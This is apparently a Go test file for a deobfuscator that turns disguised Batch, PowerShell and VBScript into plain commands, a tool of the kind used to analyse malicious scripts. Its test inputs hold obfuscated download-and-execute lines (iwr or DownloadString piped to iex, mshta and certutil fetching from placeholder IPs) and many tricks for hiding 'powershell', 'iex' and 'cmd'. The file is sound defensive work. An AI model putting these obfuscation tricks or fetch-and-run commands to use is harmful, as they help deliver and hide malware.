package cmdline

import (
	"strings"
	"testing"
)

func TestDeobfuscateBatch(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"set a=pow\r\nset b=ersh\r\n%a%%b%ell -c calc", "powershell -c calc"},
		{"set \"x=cer\"\nset y=tutil\n%x%%y% -urlcache", "certutil -urlcache"},
		{"%COMSPEC:~-7,3%", "cmd"},
		{"set s=abcdefghijklmnopqrstuvwxyz\n%s:~15,1%%s:~14,1%%s:~22,1%%s:~4,1%%s:~17,1%%s:~18,1%%s:~7,1%%s:~4,1%%s:~11,1%%s:~11,1%", "powershell"},
		{"set q=cxrtutil\n%q:x=e% -decode", "certutil -decode"},
		{"p^o^w^e^r^s^h^e^l^l -nop", "powershell -nop"},
		{"c%undefined%md /c echo", "cmd /c echo"},
		{"setlocal enabledelayedexpansion\nset v=msh\nset w=ta\n!v!!w! http://x", "mshta http://x"},
		{"echo 50% done", "echo 50% done"},
		{"for %%i in (*.log) do del %%i", "for %%i in (*.log) do del %%i"},
		{"set a=%a%%a%\n", ""},
	} {
		got := Deobfuscate(LangBatch, tc.in)
		if !strings.Contains(got, tc.want) {
			t.Errorf("%q: got %q, want it to contain %q", tc.in, got, tc.want)
		}
	}
}

func TestDeobfuscatePowerShell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{`&('i'+'ex') ('Write'+'-Host hi')`, "iex"},
		{`$u = 'http://203.0.113.9/' + 's.ps1'; (New-Object Net.WebClient).('Download'+'String')($u)`, ".DownloadString('http://203.0.113.9/s.ps1')"},
		{`[char]105+[char]101+[char]0x78`, "'iex'"},
		{`-join ([char[]](105,119,114))`, "'iwr'"},
		{`(105,101,120 | % {[char]$_}) -join ''`, "'iex'"},
		{`("{2}{0}{1}" -f 'ke-Expr','ession','Invo')`, "'Invoke-Expression'"},
		{`('iXYZ' -replace 'XYZ','ex')`, "'iex'"},
		{`'xei'[-1..-3] -join ''`, "'iex'"},
		{"i`e`x", "iex"},
		{`$env:comspec[4,15,25]-join''`, "'iex'"},
		{`[System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String('` + encode("iwr http://203.0.113.9/a | iex") + `'))`, "iwr http://203.0.113.9/a | iex"},
		{`iex 'Start-Process calc'`, "\nStart-Process calc"},
	} {
		got := Deobfuscate(LangPowerShell, tc.in)
		if !strings.Contains(strings.ToLower(got), strings.ToLower(tc.want)) {
			t.Errorf("%q:\n got %q\nwant it to contain %q", tc.in, got, tc.want)
		}
	}
}

func TestVBSCommands(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{`Set s = CreateObject("WScript.Shell")
s.Run Chr(99) & Chr(109) & Chr(100) & " /c calc", 0`, "cmd /c calc"},
		{`a = StrReverse("exe.dmc")
CreateObject("WScript.Shell").Run a`, "cmd.exe"},
		{`x = Replace("pXXwershell -c iex", "XX", "o")
Set o = CreateObject("Shell.Application")
o.ShellExecute "cmd", "/c " & x`, "cmd /c powershell -c iex"},
		{`Dim c: c = ""
For i = 1 To 4: c = c & Chr(Asc(Mid("dne!", i, 1)) - 1): Next
CreateObject("WScript.Shell").Run c & "calc"`, "cmd calc"},
		{`Execute "CreateObject(""WScript.Shell"").Run ""mshta http://198.51.100.7/a"""`, "mshta http://198.51.100.7/a"},
		{`p = "ms" & "h" & "ta"
ExecuteGlobal "Set w = CreateObject(""WScript.Shell"") : w.Run """ & p & " vbscript:close"""`, "mshta vbscript:close"},
		{`Set s = CreateObject("WScript.Shell")
s.Run Join(Array("power", "shell", " -nop"), "")`, "powershell -nop"},
		{`Set s = CreateObject("WScript.Shell")
s.Run ChrW(&H63) & ChrW(&H6D) & ChrW(100 + 0)`, "cmd"},
	} {
		cmds := VBSCommands(tc.in).Commands
		if !strings.Contains(strings.Join(cmds, "\n"), tc.want) {
			t.Errorf("%q: commands %q, want %q", tc.in, cmds, tc.want)
		}
	}
}

func TestFolds(t *testing.T) {
	for _, tc := range []struct {
		fold    func(string) string
		in, out string
	}{
		{foldConcat, `'a' + 'b'+'c' + $x + 'd'`, `'abc' + $x + 'd'`},
		{foldConcat, `$a + 'b'`, `$a + 'b'`},
		{foldFormat, `'{1}{0}' -f 'b', 'a'`, `'ab'`},
		{foldFormat, `Get-Item x -Force; '{0}' -foo 'a'`, `Get-Item x -Force; '{0}' -foo 'a'`},
		{foldParen, `iex ('x')`, `iex 'x'`},
		{foldParen, `Write-Host('x'); $o.M('y')`, `Write-Host('x'); $o.M('y')`},
	} {
		if got := tc.fold(tc.in); got != tc.out {
			t.Errorf("%q: got %q, want %q", tc.in, got, tc.out)
		}
	}
}

// A launch whose command depends on what the evaluator cannot know is
// counted as unresolved, never taken as harmless.
func TestVBSUnresolved(t *testing.T) {
	for _, tc := range []struct {
		in         string
		unresolved int
	}{
		{"Sub Go(c)\nCreateObject(\"WScript.Shell\").Run c\nEnd Sub", 1},
		{"x = InputBox(\"cmd\")\nCreateObject(\"WScript.Shell\").Run x", 1},
		{"WScript.Echo \"Run the report\"", 0},
		{"CreateObject(\"WScript.Shell\").Run \"notepad.exe\"", 0},
	} {
		if got := VBSCommands(tc.in).Unresolved; got != tc.unresolved {
			t.Errorf("%q: unresolved %d, want %d", tc.in, got, tc.unresolved)
		}
	}
}
